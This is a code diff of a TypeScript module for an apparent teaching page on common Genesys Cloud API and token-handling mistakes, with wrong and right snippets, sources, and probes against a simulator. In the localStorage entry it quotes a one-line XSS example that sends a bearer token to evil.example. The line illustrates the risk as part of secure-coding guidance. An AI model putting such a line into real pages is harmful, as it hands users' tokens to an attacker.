@@ -2,8 +2,9 @@ import "server-only";
 /**
  * The teaching page's "Common mistakes": what tutorials get wrong about Genesys Cloud and about
  * tokens in a web app, each beside the right way. The API mistakes are not only asserted:
- * `runMistakeProbes` sends the wrong request and the right one to the embedded simulator, which
- * reproduces Genesys Cloud's documented errors, so the page shows what each one is answered.
+ * `runMistakeProbes` sends the wrong request and the right one to the embedded simulator and the
+ * page shows its answers. They are the simulator's, not Genesys's: Genesys documents the right
+ * requests, not what it answers the wrong ones, so each probe says what is and is not documented.
  */
 import { STATUS_CODES } from "node:http";
 import { SIMULATOR_BASE_URL, getEmbeddedSimulator, simulatorFetch } from "@/lib/config/connection";
@@ -13,6 +14,9 @@ import { SIM_CLIENT_ID, SIM_CLIENT_SECRET } from "@/lib/sim";
 export type MistakeId = "token-host" | "basic-auth" | "metric-names" | "details-paging" | "local-storage" | "next-public";
 
 export type Snippet = { label: string; code: string };
+
+/** A public source a reader can open. */
+export type Source = { label: string; href: string };
 
 /** What a probe sends. The simulator serves the login service and the platform API on one host. */
 export type ProbeRequest = {
@@ -32,9 +36,17 @@ export type Mistake = {
   wrong: Snippet;
   right: Snippet;
   why: string;
-  source: string;
+  sources: readonly Source[];
 } & (
-  | { probe: { wrong: ProbeRequest; right: ProbeRequest }; consequence?: never }
+  | {
+      probe: {
+        wrong: ProbeRequest;
+        right: ProbeRequest;
+        /** What Genesys documents about the wrong request's answer; the simulator's answer is its own choice. */
+        documented: string;
+      };
+      consequence?: never;
+    }
   /** No request can show these: the consequence of each side, in words. */
   | { consequence: { wrong: string; right: string }; probe?: never }
 );
@@ -44,18 +56,27 @@ export type ProbeAnswer = {
   request: string;
   status: number;
   statusText: string;
+  /** The error code of an error answer (ErrorBody `code` or OAuth `error`). */
+  code?: string;
   /** The answer's JSON, compacted, tokens redacted, at most EXCERPT_MAX characters. */
   excerpt: string;
 };
 
 export type MistakeAnswer = { id: MistakeId; wrong: ProbeAnswer; right: ProbeAnswer };
 
-/** The documented client-credentials request (API-FACTS §1.2); also fetches the probes' token. */
+/** The documented client-credentials request (RFC 6749 §4.4, HTTP Basic); also fetches the probes' token. */
 const CLIENT_CREDENTIALS: ProbeRequest = {
   method: "POST",
   path: "/oauth/token",
   auth: "basic",
   body: () => "grant_type=client_credentials",
+};
+
+const JS_SDK = "https://github.com/MyPureCloud/platform-client-sdk-javascript/blob/e09e27aa2f5657f4aa76f526bb909e893199d384";
+const DOTNET_SDK = "https://github.com/MyPureCloud/platform-client-sdk-dotnet/blob/6e801ced7445926cade0b8b4adf129cdf79f1f79";
+const CLIENT_CREDENTIALS_PAGE: Source = {
+  label: "Genesys Developer Center: Client Credentials Grant",
+  href: "https://developer.genesys.cloud/authorization/platform-auth/use-client-credentials",
 };
 
 const AGGREGATES_QUERY = "/api/v2/analytics/conversations/aggregates/query";
@@ -82,10 +103,17 @@ export const MISTAKES: readonly Mistake[] = [
 });`,
     },
     why: "The official SDKs derive two hosts from the environment domain: the API at https://api.<env> and the login service at https://login.<env>. The token endpoint is always https://login.<env>/oauth/token, never on the api. host.",
-    source: "API-FACTS §1.1",
+    sources: [
+      CLIENT_CREDENTIALS_PAGE,
+      {
+        label: "platform-client-sdk-javascript configuration.js, setEnvironment",
+        href: `${JS_SDK}/build/src/purecloud-platform-client-v2/configuration.js#L363-L378`,
+      },
+    ],
     probe: {
       wrong: { ...CLIENT_CREDENTIALS, path: "/api/v2/oauth/token" },
       right: CLIENT_CREDENTIALS,
+      documented: "Genesys documents only https://login.<env>/oauth/token; what api.<env> answers is not documented.",
     },
   },
   {
@@ -107,14 +135,25 @@ export const MISTAKES: readonly Mistake[] = [
       code: `await fetch("https://login.mypurecloud.com/oauth/token", {
   method: "POST",
   headers: {
+    // base64 of the raw "id:secret", as the official SDKs send it: no form-encoding first
     Authorization: \`Basic \${btoa(\`\${clientId}:\${clientSecret}\`)}\`,
     "Content-Type": "application/x-www-form-urlencoded",
   },
   body: "grant_type=client_credentials",
 });`,
     },
-    why: "The documented client-credentials request carries the id and secret as Authorization: Basic base64(client_id:client_secret), with only grant_type=client_credentials in the body; no official SDK or tutorial sends them in the body. Bad client credentials are answered with an OAuth-style invalid_client error, not the platform's ErrorBody.",
-    source: "API-FACTS §1.2",
+    why: "The documented client-credentials request carries the id and secret as Authorization: Basic followed by the base64 of the raw client_id:client_secret (neither part form-encoded first: exactly what the official SDKs send), with only grant_type=client_credentials in the body; no official SDK or tutorial sends them in the body.",
+    sources: [
+      CLIENT_CREDENTIALS_PAGE,
+      {
+        label: "platform-client-sdk-javascript ApiClient.js, loginClientCredentialsGrant",
+        href: `${JS_SDK}/build/src/purecloud-platform-client-v2/ApiClient.js#L946-L961`,
+      },
+      {
+        label: "Genesys Cloud Developer Community: Client Credentials authentication, alternative method",
+        href: "https://community.genesys.com/discussion/client-credentials-authentication-alternative-method",
+      },
+    ],
     probe: {
       wrong: {
         method: "POST",
@@ -124,6 +163,8 @@ export const MISTAKES: readonly Mistake[] = [
           new URLSearchParams({ grant_type: "client_credentials", client_id: clientId, client_secret: clientSecret }).toString(),
       },
       right: CLIENT_CREDENTIALS,
+      documented:
+        "Genesys documents only HTTP Basic for this grant; what its login service does with credentials in the body is not documented (a community post reports they are accepted).",
     },
   },
   {
@@ -148,7 +189,12 @@ export const MISTAKES: readonly Mistake[] = [
 }`,
     },
     why: "metrics[] is an exact enum of 80 names: counts begin with n (nOffered), durations in milliseconds with t (tAnswered, tHandle), observations with o (oServiceLevel). Names such as interactions, handled, handleTime, offered or answered do not exist.",
-    source: "API-FACTS §3.3",
+    sources: [
+      {
+        label: "platform-client-sdk-dotnet ConversationAggregationQuery.cs, MetricsEnum",
+        href: `${DOTNET_SDK}/build/src/PureCloudPlatform.Client.V2/Model/ConversationAggregationQuery.cs#L537`,
+      },
+    ],
     probe: {
       wrong: { method: "POST", path: AGGREGATES_QUERY, auth: "bearer", body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["interactions", "handled"] }) },
       right: {
@@ -157,6 +203,7 @@ export const MISTAKES: readonly Mistake[] = [
         auth: "bearer",
         body: ({ interval }) => ({ interval, groupBy: ["queueId"], metrics: ["nOffered", "tAnswered", "tHandle"] }),
       },
+      documented: "Genesys documents the metric enum; the exact error for a name outside it is not documented.",
     },
   },
   {
@@ -182,7 +229,17 @@ export const MISTAKES: readonly Mistake[] = [
 // Then pageNumber 2, 3, … until an answer has no "conversations".`,
     },
     why: "The synchronous details query pages by paging: {pageSize, pageNumber} and has no cursor, pageToken, select or nextPage field. Only the results of an async details job (GET …/details/jobs/{jobId}/results) page by cursor.",
-    source: "API-FACTS §4.1, §4.3",
+    sources: [
+      {
+        label: "Genesys Developer Center: Conversation detail query",
+        href: "https://developer.genesys.cloud/analyticsdatamanagement/analytics/detail/conversation-query",
+      },
+      { label: "platform-client-sdk-dotnet ConversationQuery.md (paging)", href: `${DOTNET_SDK}/build/docs/ConversationQuery.md` },
+      {
+        label: "platform-client-sdk-javascript AnalyticsApi.md, getAnalyticsConversationsDetailsJobResults (cursor)",
+        href: `${JS_SDK}/build/docs/AnalyticsApi.md#getanalyticsconversationsdetailsjobresults`,
+      },
+    ],
     probe: {
       wrong: {
         method: "POST",
@@ -191,6 +248,7 @@ export const MISTAKES: readonly Mistake[] = [
         body: ({ interval }) => ({ interval, select: ["conversationId", "conversationStart"], pageSize: 25, cursor: null }),
       },
       right: { method: "POST", path: DETAILS_QUERY, auth: "bearer", body: ({ interval }) => ({ interval, paging: { pageSize: 25, pageNumber: 1 } }) },
+      documented: "Genesys documents paging and no select, pageSize or cursor field; how it answers unknown fields is not documented.",
     },
   },
   {
@@ -220,7 +278,7 @@ callbacks: {
 // Server code reads the token and calls Genesys; the browser calls only this app.`,
     },
     why: "Every script running on the page can read localStorage, so a token kept there is one injected script away from being sent elsewhere. The Backend-for-Frontend pattern keeps tokens on the server and gives the browser only an HttpOnly session cookie; this app does that with an Auth.js JWT session.",
-    source: "RFC 10017 (OAuth 2.0 for Browser-Based Applications), Backend for Frontend",
+    sources: [{ label: "RFC 10017 (OAuth 2.0 for Browser-Based Applications) §6.1, Backend for Frontend", href: "https://www.rfc-editor.org/rfc/rfc10017#section-6.1" }],
     consequence: {
       wrong:
         "Any script on the page, an injected one (XSS) or a compromised dependency, can read it: fetch('https://evil.example/?t=' + localStorage.getItem('token')) hands the bearer token to whoever runs evil.example, who can use it until it expires.",
@@ -248,7 +306,12 @@ GENESYS_CLIENT_SECRET=…
 GENESYS_CLIENT_SECRET: optionalText,`,
     },
     why: "At build time, Next.js replaces process.env.NEXT_PUBLIC_* references with their values and inlines them into the JavaScript sent to the browser. Variables without the prefix are only available in the Node.js environment.",
-    source: "Next.js docs, Environment Variables: Bundling Environment Variables for the Browser",
+    sources: [
+      {
+        label: "Next.js docs, Environment Variables: Bundling Environment Variables for the Browser",
+        href: "https://nextjs.org/docs/app/guides/environment-variables#bundling-environment-variables-for-the-browser",
+      },
+    ],
     consequence: {
       wrong:
         "next build writes the secret itself into the JavaScript that every visitor downloads. Anyone can read it there and request tokens as your app.",
@@ -324,10 +387,12 @@ async function exchange(send: typeof fetch, request: ProbeRequest, context: Prob
 function answerOf(request: ProbeRequest, answer: { status: number; body: unknown }): ProbeAnswer {
   const shown = isRecord(answer.body) ? essentials(answer.body) : answer.body;
   const text = typeof shown === "string" ? shown : JSON.stringify(shown);
+  const code = isRecord(answer.body) ? (typeof answer.body.code === "string" ? answer.body.code : typeof answer.body.error === "string" ? answer.body.error : undefined) : undefined;
   return {
     request: `${request.method} ${request.path}`,
     status: answer.status,
     statusText: STATUS_CODES[answer.status] ?? "",
+    ...(code ? { code } : {}),
     excerpt: text.length > EXCERPT_MAX ? `${text.slice(0, EXCERPT_MAX)}…` : text,
   };
 }
